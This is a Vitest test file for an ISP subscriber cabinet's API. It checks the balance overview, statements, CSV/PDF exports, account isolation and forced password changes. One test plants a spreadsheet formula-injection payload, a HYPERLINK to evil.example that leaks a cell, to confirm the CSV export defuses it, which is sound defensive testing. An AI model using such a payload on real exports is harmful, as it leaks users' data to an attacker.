import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { addDays, todayIn } from '../../../common/dates.js';
import { createTestApp, type TestContext } from '../../test/app.js';
import { buildRegion, buildStaff } from '../../test/factories.js';
import { signedInSubscriber } from '../../test/sign-in.js';
import { runBilling } from '../billing/run-billing.js';
import { creditPayment } from '../ledger/credit-payment.js';

let t: TestContext;
beforeAll(async () => {
  t = await createTestApp();
});
afterAll(() => t.close());

const today = todayIn('Europe/Moscow');

describe('information block', () => {
  it('shows tariff, balance and how many days the money lasts', async () => {
    const s = await signedInSubscriber(t.app, t.database.db, { monthlyFee: 60_000, balance: 10_000 });
    const res = await t.app.inject({ method: 'GET', url: '/api/me/overview', headers: s.auth });
    expect(res.statusCode).toBe(200);
    const o = res.json();
    expect(o).toMatchObject({
      account: s.account.number,
      status: 'active',
      balance: 10_000,
      monthlyFee: 60_000,
      // The region's day (Moscow), not UTC's: the cabinet's periods default to it.
      today,
      nextChargeOn: addDays(today, 1),
    });
    expect(o.tariff).toMatchObject({ nameRu: 'Домашний 100', speedDownKbps: 100_000 });
    // 100 ₽ at 600 ₽/month (19.35–21.43 ₽/day depending on the month): 4 or 5 days.
    expect(o.daysLeft).toBeGreaterThanOrEqual(4);
    expect(o.daysLeft).toBeLessThanOrEqual(5);
    expect(o.region.supportPhone).toBe('88005559167');
  });

  it('explains a debt block and how much to pay', async () => {
    const region = await buildRegion(t.database.db);
    const s = await signedInSubscriber(t.app, t.database.db, {
      regionId: region.id,
      monthlyFee: 60_000,
      balance: 500,
      startsOn: addDays(today, -5),
    });
    await runBilling(t.database.db, { regionId: region.id, until: today });
    const o = (await t.app.inject({ method: 'GET', url: '/api/me/overview', headers: s.auth })).json();
    expect(o.status).toBe('blocked');
    expect(o.amountToRestore).toBe(-o.balance);
    expect(o.recommendedPayment).toBe(-o.balance + 60_000);
    expect(o.daysLeft).toBeNull();
  });
});

describe('statement', () => {
  async function withHistory() {
    const region = await buildRegion(t.database.db);
    const s = await signedInSubscriber(t.app, t.database.db, {
      regionId: region.id,
      monthlyFee: 30_000,
      startsOn: '2026-09-01',
    });
    await creditPayment(t.database.db, {
      accountId: s.account.id,
      amount: 80_000,
      idempotencyKey: `st-${s.account.id}`,
      source: 'test',
      effectiveOn: '2026-09-01',
    });
    await runBilling(t.database.db, { regionId: region.id, until: '2026-09-01' });
    await runBilling(t.database.db, { regionId: region.id, until: '2026-10-31' });
    return s;
  }

  it('lists a mid-history period with the true running balance and totals', async () => {
    const s = await withHistory();
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/me/statement?from=2026-10-01&to=2026-10-31',
      headers: s.auth,
    });
    const st = res.json();
    expect(st.openingBalance).toBe(80_000 - 30_000); // September fully charged
    expect(st.entries).toHaveLength(31);
    expect(st.entries[0]).toMatchObject({
      date: '2026-10-01',
      kind: 'charge',
      balanceAfter: 50_000 + st.entries[0].amount,
    });
    expect(st.closingBalance).toBe(20_000);
    expect(st.totals).toEqual([{ kind: 'charge', amount: -30_000 }]);
    expect(st.series).toHaveLength(31);
    expect(st.series.at(-1)).toEqual({ date: '2026-10-31', balance: 20_000 });
  });

  it('exports CSV with exact amounts and a PDF with the entries', async () => {
    const s = await withHistory();
    const csv = await t.app.inject({
      method: 'GET',
      url: '/api/me/statement.csv?from=2026-09-01&to=2026-09-02',
      headers: s.auth,
    });
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const lines = csv.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('Дата;Операция;Сумма, руб.;Остаток, руб.;Комментарий');
    expect(lines[1]).toBe('2026-09-01;Платёж;800.00;800.00;');
    // A charge's comment names what was charged (describe-entries.ts).
    expect(lines[2]).toBe('2026-09-01;Абонентская плата;-10.00;790.00;Тариф «Домашний 100»');
    const pdf = await t.app.inject({
      method: 'GET',
      url: '/api/me/statement.pdf?from=2026-09-01&to=2026-09-30',
      headers: s.auth,
    });
    const dir = mkdtempSync(join(tmpdir(), 'st-'));
    writeFileSync(join(dir, 's.pdf'), pdf.rawPayload);
    const text = execFileSync('pdftotext', ['-layout', join(dir, 's.pdf'), '-']).toString();
    expect(text).toContain('Выписка по лицевому счёту');
    expect(text).toContain(s.account.number);
    expect(text).toContain('Абонентская плата');
  });

  it('exports a staff-written reason that looks like a formula as text, not as a live formula', async () => {
    const s = await signedInSubscriber(t.app, t.database.db, { balance: 10_000 });
    const finance = await buildStaff(t.database.db, { role: 'finance' });
    const reason = '=HYPERLINK("http://evil.example/?"&A1,"Подробнее")';
    const corr = await t.app.inject({
      method: 'POST',
      url: `/api/staff/accounts/${s.account.id}/corrections`,
      headers: finance.auth,
      payload: { amount: -500, reason, idempotencyKey: `csv-${s.account.id}` },
    });
    expect(corr.statusCode).toBe(200);
    const today = todayIn('Europe/Moscow');
    const csv = await t.app.inject({
      method: 'GET',
      url: `/api/me/statement.csv?from=${addDays(today, -3)}&to=${addDays(today, 1)}`,
      headers: s.auth,
    });
    const line = csv.body.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
    // The last cell starts with an apostrophe inside quotes: a spreadsheet shows the text as typed.
    expect(line).toContain(`-5.00;`);
    expect(line.split(/;(?=[^;]*$)/)[1] ?? line).toMatch(/^"'=HYPERLINK/);
  });

  it('refuses a bad period with a clear error', async () => {
    const s = await withHistory();
    const res = await t.app.inject({
      method: 'GET',
      url: '/api/me/statement?from=2026-10-31&to=2026-10-01',
      headers: { ...s.auth, 'accept-language': 'en' },
    });
    expect(res.statusCode).toBe(400);
    expect(res.json().error.code).toBe('bad_period');
    // An impossible day is refused by the shared day schema (server/modules/shared.schemas.ts) before the use-case.
    const impossible = await t.app.inject({ method: 'GET', url: '/api/me/statement?from=2026-02-30', headers: s.auth });
    expect(impossible.statusCode).toBe(400);
    expect(impossible.json().error.code).toBe('validation_failed');
  });
});

describe('isolation', () => {
  it('a subscriber only ever sees their own account; staff and strangers see nothing', async () => {
    const a = await signedInSubscriber(t.app, t.database.db, { balance: 1_111 });
    const b = await signedInSubscriber(t.app, t.database.db, { balance: 2_222 });
    const staff = await buildStaff(t.database.db, { role: 'admin' });
    for (const url of [
      '/api/me/overview',
      '/api/me/statement?from=2026-01-01',
      '/api/me/statement.csv?from=2026-01-01',
    ]) {
      const body = (await t.app.inject({ method: 'GET', url, headers: a.auth })).body;
      expect(body).toMatch(url.includes('csv') ? /;11\.11;/ : /"balance(After)?":1111/);
      expect(body).not.toMatch(/2222|22\.22/);
      expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(401);
      expect((await t.app.inject({ method: 'GET', url, headers: staff.auth })).statusCode).toBe(403);
    }
    const ob = (await t.app.inject({ method: 'GET', url: '/api/me/overview', headers: b.auth })).json();
    expect(ob.account).toBe(b.account.number);
  });

  it('keeps a subscriber with the initial password out until it is changed', async () => {
    const s = await signedInSubscriber(t.app, t.database.db, { mustChangePassword: true });
    const res = await t.app.inject({ method: 'GET', url: '/api/me/overview', headers: s.auth });
    expect(res.statusCode).toBe(403);
    expect(res.json().error.code).toBe('password_change_required');
  });
});
